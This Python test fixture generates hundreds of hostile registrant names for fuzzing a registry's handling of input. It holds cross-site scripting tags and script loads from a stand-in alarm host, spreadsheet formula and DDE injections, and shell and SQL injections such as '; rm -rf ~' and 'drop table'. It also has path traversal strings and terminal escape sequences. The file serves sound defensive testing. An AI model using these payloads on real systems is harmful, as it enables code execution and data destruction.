"""Names that anybody could register and that some program would obey, misread or choke on: more than 500, by
kind.

Every script, link and handler says ALARM, so that one that ran can be told: a page's title, a dialog or a
request would carry the word."""

from collections.abc import Iterator, Mapping, Sequence

ALARM = "zzalarm"
OUTSIDE = f"https://{ALARM}.example/"
RUN = f"document.title='{ALARM}',alert('{ALARM}')"

HTML_TAGS = (
    "<script>{run}</script>",
    "<SCRIPT SRC={out}a.js></SCRIPT>",
    "<img src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<iframe src={out}></iframe>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<object data={out}></object>",
    "<embed src={out}>",
    "<link rel=stylesheet href={out}a.css>",
    "<style>@import '{out}a.css'</style>",
    "<base href={out}>",
    "<meta http-equiv=refresh content='0;url={out}'>",
    "<body onload={run}>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<audio src={out}a.mp3 autoplay>",
    "<form action={out}><button autofocus>go",
    "<a href='javascript:{run}'>x</a>",
    "<math><mtext><script>{run}</script></mtext></math>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<marquee onstart={run}>",
    "<xss style='animation-name:x' onanimationstart={run}>",
)
WAYS_OUT = ("", '">', "'>", "</title>", "-->", "</text></svg>")  # of where a name may stand
IN_ATTRIBUTES = (
    '" onmouseover="{run}',
    "' autofocus onfocus='{run}",
    "x` onload=`{run}",
    '" style="background:url({out})',
    "&quot; onclick=&quot;{run}",
    "&#34;&gt;&lt;script&gt;{run}",
)
ADDRESSES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "data:text/html,<script>{run}</script>",
    "vbscript:msgbox(1)",
    "{out}",
    "//{alarm}.example/x",
    "file:///etc/passwd",
    "\\\\{alarm}.example\\share",
)
STYLES = (
    "}}</style><script>{run}</script>",
    "url({out})",
    "expression({run})",
    "@import url({out});",
    "*{{background:url({out})}}",
    "\\3c script\\3e ",
)
TEMPLATES = (
    "{{7*7}}",
    "{{ config }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{7*7}",
    "%s%s%n",
    "%(name)s",
    "{0.__class__}",
    "{{''.__class__}}",
    "$(id)",
    "`id`",
    "; rm -rf ~",
    "| cat /etc/passwd",
    "&& id",
)
FORMULA_STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\u200b=",
    "\ufeff=",
    "\n=",
    "'=",
    ";=",
    ",=",
    '"=',
)
FORMULAS = (
    "1+1",
    "CMD|'/C CALC'!A0",
    'HYPERLINK("{out}","x")',
    'WEBSERVICE("{out}")',
    'IMPORTXML("{out}","//a")',
    'DDE("cmd";"/C calc";"x")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(A1)",
)
MARKUP = (
    "[bold red]x[/bold red]",
    "[link={out}]x[/link]",
    "[/]",
    "[",
    "[[",
    "[blink]",
    "[x]({out})",
    "![x]({out}x.png)",
    "**x**",
    "# x",
    "`x`",
    "| a | b |",
    "<!-- -->",
    "[^1]",
    "---",
    ":smile:",
    "\\[bold]",
    "[@click=app.quit]x[/]",
)
ESCAPES = (
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;{out}\x1b\\x\x1b]8;;\x1b\\",
    "\x1b]0;{alarm}\x07",
    "\x1b[2J\x1b[H",
    "\x9b31m",
    "\x9d0;{alarm}\x9c",
    "\x1bP+q544e\x1b\\",
    "\x1b[6n",
    "\x1b]52;c;eA==\x07",
    "\x1b(0",
    "\x0e",
    "\x1b[?1049h",
    "\x07",
    "a\x08\x08b",
    "\x1bc",
    "\x1b#8",
    "\x90q\x9c",
    "\x1b[200~id\n\x1b[201~",
)
DIRECTIONS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
INVISIBLE = (
    "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u115f\u1160\u17b4\u180e\u2061\u2062\u2063\u2064\u206a\u206f"
    "\u3164\uffa0\ufe0f\U000e0001\U000e0041\U000e0100\u2800"
)
SPACES = "\u00a0\u2000\u2003\u2009\u202f\u205f\u3000\u2028\u2029\u0085\u1680"
CONTROLS = "".join(map(chr, (*range(1, 10), 11, 12, *range(14, 32), *range(127, 160))))
NOT_IN_XML = "\ufffe\uffff\ufdd0\U0001fffe\U0010ffff\ue000"
LINE_ENDS = ("\n", "\r", "\r\n", "\n\n", "\u2028", "\x0b")
LOOKALIKES = (
    "АLDЕR FАRM",
    "ΑLDER FARM",
    "ALDER FARⅯ",
    "ＡＬＤＥＲ",
    "𝐀𝐋𝐃𝐄𝐑",
    "ALDER F4RM",
    "ǅ",
    "ﬁnance",
    "ſtate",
    "K",
    "İI",
    "Å",
    "Å",
    "ẞ",
    "ß",
)
BREAKING_JSON = (
    "</script>",
    '"}}',
    '\\"',
    "\\",
    "\\u0000",
    "\\ud800",
    "]]>",
    "<!--<script>",
    '","x":"',
    "\\n",
    "\u2028}}",
    "\x00",
    "null",
    "NaN",
    "true",
    "{{}}",
    "[]",
)
PATHS = (
    "../../etc/passwd",
    "..\\..\\windows",
    "/etc/passwd",
    "C:\\con",
    "CON",
    "NUL",
    "COM1",
    "aux.txt",
    "LPT1:",
    ".",
    "..",
    "~",
    "-rf",
    "--help",
    "a/b",
    "%2e%2e%2f",
    "x.",
    "x ",
    "index.html",
    ".htaccess",
    "file:x",
    "CLOCK$",
)
QUERIES = (
    "'; drop table company; --",
    "' or '1'='1",
    "\"; attach 'x'; --",
    "1; select 1",
    "x'||(select 1)||'",
    "/* x */",
    "--",
    "$1",
    "?",
    "%",
    "_",
    "\\'",
    "read_csv('/etc/passwd')",
    "copy t to 'x'",
    "$$x$$",
    "x\u02bcx",
    "''",
    '""',
)
FLOODS = (
    "Z" + "\u0300" * 60,
    "a" + "\u0489" * 40,
    "\u0e01" + "\u0e49" * 50,
    "\U0001f468\u200d" * 20,
    "W" * 400,
    "é" * 1500,
    "word " * 200,
    "<b>" * 200,
    "((" * 200,
    "\u202e" * 50,
    "&amp;" * 100,
    "9" * 300,
)

KINDS: Mapping[str, Sequence[str]] = {
    "markup of pages": tuple(f"{way}{tag}" for way in WAYS_OUT for tag in HTML_TAGS),
    "attributes": IN_ATTRIBUTES,
    "addresses": ADDRESSES,
    "styles": STYLES,
    "formulas": tuple(f"{start}{formula}" for start in FORMULA_STARTS for formula in FORMULAS),
    "escapes": ESCAPES,
    "markup of texts": MARKUP,
}
AS_THEY_STAND: Mapping[str, Sequence[str]] = {
    "templates": TEMPLATES,
    "directions": [f"ALDER {character}DTL MRAF" for character in DIRECTIONS],
    "invisible": [f"AL{character}DER" for character in INVISIBLE],
    "spaces": [f"ALDER{character}FARM" for character in SPACES],
    "controls": [f"ALDER{character}FARM" for character in CONTROLS],
    "not in XML": [f"ALDER{character}FARM" for character in NOT_IN_XML],
    "line ends": [f"ALDER{end}FARM" for end in LINE_ENDS],
    "lookalikes": LOOKALIKES,
    "JSON": BREAKING_JSON,
    "paths": PATHS,
    "queries": QUERIES,
    "floods": FLOODS,
}


def by_kind() -> Iterator[tuple[str, str]]:
    """(kind, name), in order; each name once, and with letters in it, as a name without any is no name to
    a register.
    """
    for kind, forms in KINDS.items():
        yield from ((kind, form.format(run=RUN, out=OUTSIDE, alarm=ALARM)) for form in forms)
    for kind, names in AS_THEY_STAND.items():
        yield from ((kind, name) for name in names)


def names() -> list[str]:
    """Each a different name: a number at its end keeps those apart that search forms would take for one."""
    return [f"{name} ZED{number:03}" for number, (_, name) in enumerate(by_kind())]
